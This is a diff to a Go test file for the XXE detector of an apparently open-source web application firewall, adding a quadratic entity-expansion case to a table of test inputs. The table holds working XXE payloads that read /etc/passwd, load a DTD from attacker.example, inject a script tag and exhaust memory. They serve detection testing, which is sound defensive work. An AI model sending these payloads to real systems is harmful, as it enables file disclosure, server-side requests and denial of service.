@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/rampartwaf/rampart/internal/parse"
@@ -46,6 +47,7 @@ func TestXXE(t *testing.T) {
 		{"svg system entity among literal ones", `<!DOCTYPE svg [<!ENTITY ns "http://ns.adobe.com/"><!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`, true},
 		{"svg parameter entity", `<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><svg/>`, true},
 		{"svg markup entity", `<!DOCTYPE svg [<!ENTITY m "<script>x</script>">]><svg>&m;</svg>`, true},
+		{"svg quadratic blowup", `<!DOCTYPE svg [<!ENTITY a "` + strings.Repeat("A", 2000) + `">]><svg><text>` + strings.Repeat("&a;", 100) + `</text></svg>`, true},
 		{"dtd path up", `<!DOCTYPE x SYSTEM "../../etc/x.dtd"><x/>`, true},
 		{"dtd absolute path", `<!DOCTYPE x SYSTEM "/etc/x.dtd"><x/>`, true},
 		{"prose about entities", `You declare an entity in the DTD, then reference it as &name;`, false},
